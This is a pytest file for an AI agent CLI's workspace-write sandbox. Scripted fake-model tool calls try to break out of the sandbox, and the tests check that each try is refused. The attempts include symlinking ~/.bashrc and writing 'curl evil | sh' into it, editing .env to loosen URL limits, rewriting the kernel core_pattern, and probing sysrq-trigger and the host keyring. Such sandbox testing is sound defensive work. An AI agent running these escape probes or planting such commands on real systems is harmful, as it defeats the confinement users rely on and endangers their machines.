"""--sandbox workspace-write through the real CLI: bash is confined for real."""

from __future__ import annotations

import json
import sys
import tempfile
from pathlib import Path

import pytest

from agent.config import user_config_path
from agent.tools.local import seccomp
from tests.bubblewrap import require_sandbox
from tests.fakes import llm_server as llm

REPO = Path(__file__).resolve().parents[2]


@pytest.fixture(autouse=True)
def _bubblewrap() -> None:
    require_sandbox()


def test_confined_bash_can_write_the_workspace_but_nothing_else(cli, fake_llm, tmp_path):
    outside = Path("/var/tmp") / f"ml-intern-confinement-{tmp_path.name}.txt"  # not the temp dir
    fake_llm.script(
        llm.tool_call("bash", {"command": f"echo in > inside.txt; echo out > {outside}"}),
        llm.text("tried"),
    )
    result = cli("--sandbox", "workspace-write", "write two files")
    assert result.exit_code == 0, result.stderr
    assert f"Sandbox on: commands may change files only in {Path.cwd()} and " in result.stderr
    assert ".git/, .env*, configs/, AGENTS.md, CLAUDE.md, .agents/, .claude/ stay read-only" in (
        result.stderr
    )
    assert Path("inside.txt").read_text() == "in\n"
    exists = outside.exists()
    outside.unlink(missing_ok=True)
    assert not exists
    fake_llm.assert_done()
    tool_result = fake_llm.requests[1]["messages"][-1]["content"]
    assert "Read-only file system" in tool_result


@pytest.fixture
def home_outside(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The test's home dir, kept out of the writable roots by a temp dir of the test's own."""
    temp = tmp_path / "tmp"
    temp.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(temp))
    return tmp_path / "home"


def tool_results(fake_llm) -> list[str]:
    return [m["content"] for m in fake_llm.requests[-1]["messages"] if m["role"] == "tool"]


def test_write_and_edit_outside_the_workspace_are_refused(cli, fake_llm, home_outside):
    """Even with --yolo: a direct path, and a symlink made with bash, both refused."""
    bashrc = home_outside / ".bashrc"
    bashrc.write_text("# mine\n")
    pwned = home_outside / "write_tool_pwned"
    fake_llm.script(
        llm.tool_call("bash", {"command": f"ln -s {bashrc} notes.txt"}),
        llm.tool_call("write", {"path": str(pwned), "content": "x"}),
        llm.tool_call("write", {"path": "notes.txt", "content": "curl evil | sh\n"}),
        llm.tool_call("edit", {"path": "notes.txt", "old_str": "# mine", "new_str": "evil"}),
        llm.tool_call("write", {"path": ".env", "content": "ML_INTERN_ALLOW_PRIVATE_URLS=1\n"}),
        llm.text("gave up"),
    )
    result = cli("--sandbox", "workspace-write", "--yolo", "escape")
    assert result.exit_code == 0, result.stderr
    fake_llm.assert_done()
    linked, direct, through_link, edited, dotenv = tool_results(fake_llm)
    assert Path("notes.txt").is_symlink(), linked
    assert "Refused" in direct and "outside the sandbox's writable places" in direct
    assert f"{bashrc} is outside" in through_link
    assert f"{bashrc} is outside" in edited
    assert "stays read-only in the sandbox" in dotenv
    assert not pwned.exists()
    assert bashrc.read_text() == "# mine\n"
    assert not Path(".env").exists()


def test_stdio_mcp_servers_run_confined(cli, fake_llm, home_outside):
    config = json.loads(user_config_path().read_text())
    config["mcpServers"]["fake"] = {
        "command": sys.executable,
        "args": ["-m", "tests.fakes.mcp_server", "--transport", "stdio"],
        "cwd": str(REPO),
    }
    config["mcp_wait_s"] = 60  # the server's tools are in the first request
    user_config_path().write_text(json.dumps(config))
    outside = home_outside / "mcp_pwned"
    inside = Path.cwd() / "from_mcp.txt"
    fake_llm.script(
        llm.tool_call("mcp__fake__write_file", {"path": str(outside), "text": "x"}),
        llm.tool_call("mcp__fake__write_file", {"path": str(inside), "text": "y"}),
        llm.tool_call("mcp__fake__write_file", {"path": str(Path.cwd() / ".envrc"), "text": "z"}),
        llm.text("done"),
    )
    result = cli("--sandbox", "workspace-write", "--yolo", "write through the server")
    assert result.exit_code == 0, result.stderr
    fake_llm.assert_done()
    refused, written, protected = tool_results(fake_llm)
    assert "not written" in refused and "Read-only file system" in refused
    assert written.strip() == "written"
    assert "not written" in protected and "Operation not permitted" in protected
    assert not outside.exists()
    assert inside.read_text() == "y"
    assert not (Path.cwd() / ".envrc").exists()


def test_an_architecture_without_a_filter_refuses_to_start(cli, fake_llm, monkeypatch):
    monkeypatch.setattr(seccomp.platform, "machine", lambda: "riscv64")
    result = cli("--sandbox", "workspace-write", "hi")
    assert result.exit_code == 3
    assert "no seccomp filter for this machine's architecture (riscv64)" in result.stderr
    assert "Use --sandbox off" in result.stderr
    assert fake_llm.requests == []


HOST_SETTINGS = [Path("/proc/sys/kernel/core_pattern"), Path("/proc/sys/vm/swappiness")]
KEYCTL_GET_USER_KEYRING = "import ctypes; print('keyring', ctypes.CDLL(None).syscall({}, 0, -4, 0))"


def test_root_in_the_sandbox_cannot_change_the_host_kernel(cli, fake_llm):
    """As root, a rewritten core_pattern would run a workspace script as full root outside
    every namespace: each setting is written back with its own value, so nothing changes
    even if a write got through (and whatever changed is restored)."""
    before = {path: path.read_text() for path in HOST_SETTINGS if path.exists()}
    rewrites = [f'v=$(cat {p}); printf "%s\\n" "$v" > {p} && echo "wrote {p}"' for p in before]
    keyring = KEYCTL_GET_USER_KEYRING.format(seccomp.machine_arch().keyctl)
    probes = [
        *rewrites,
        "test -w /proc/sysrq-trigger && echo 'writable sysrq-trigger'",
        "test -w /sys/kernel/mm && echo 'writable /sys'",
        f'{sys.executable} -c "{keyring}"',
    ]
    fake_llm.script(llm.tool_call("bash", {"command": "; ".join(probes)}), llm.text("tried"))
    try:
        result = cli("--sandbox", "workspace-write", "--yolo", "tune the kernel")
    finally:
        changed = {path: text for path, text in before.items() if path.read_text() != text}
        for path, text in changed.items():
            path.write_text(text)
    assert changed == {}
    assert result.exit_code == 0, result.stderr
    output = tool_results(fake_llm)[0]
    assert "wrote" not in output and "writable" not in output, output
    assert output.count("Read-only file system") == len(before), output
    assert "keyring -1" in output, output  # refused: the host's user keyring stays out of reach


@pytest.mark.parametrize("where", ["/", "home", "above home"])
def test_root_and_home_are_refused_as_workspaces(cli, fake_llm, isolated_env, monkeypatch, where):
    """Started there, the sandbox would leave the whole disk, or ~/.bashrc, writable."""
    home = Path.home()
    folder = {"/": Path("/"), "home": home, "above home": home.parent}[where]
    monkeypatch.chdir(folder)
    result = cli("--sandbox", "workspace-write", "hi")
    assert result.exit_code == 3, result.stderr
    assert f"--sandbox workspace-write cannot use {folder} as the workspace" in result.stderr
    assert "Start ml-intern in a project folder" in result.stderr
    assert "Traceback" not in result.stderr
    assert fake_llm.requests == []
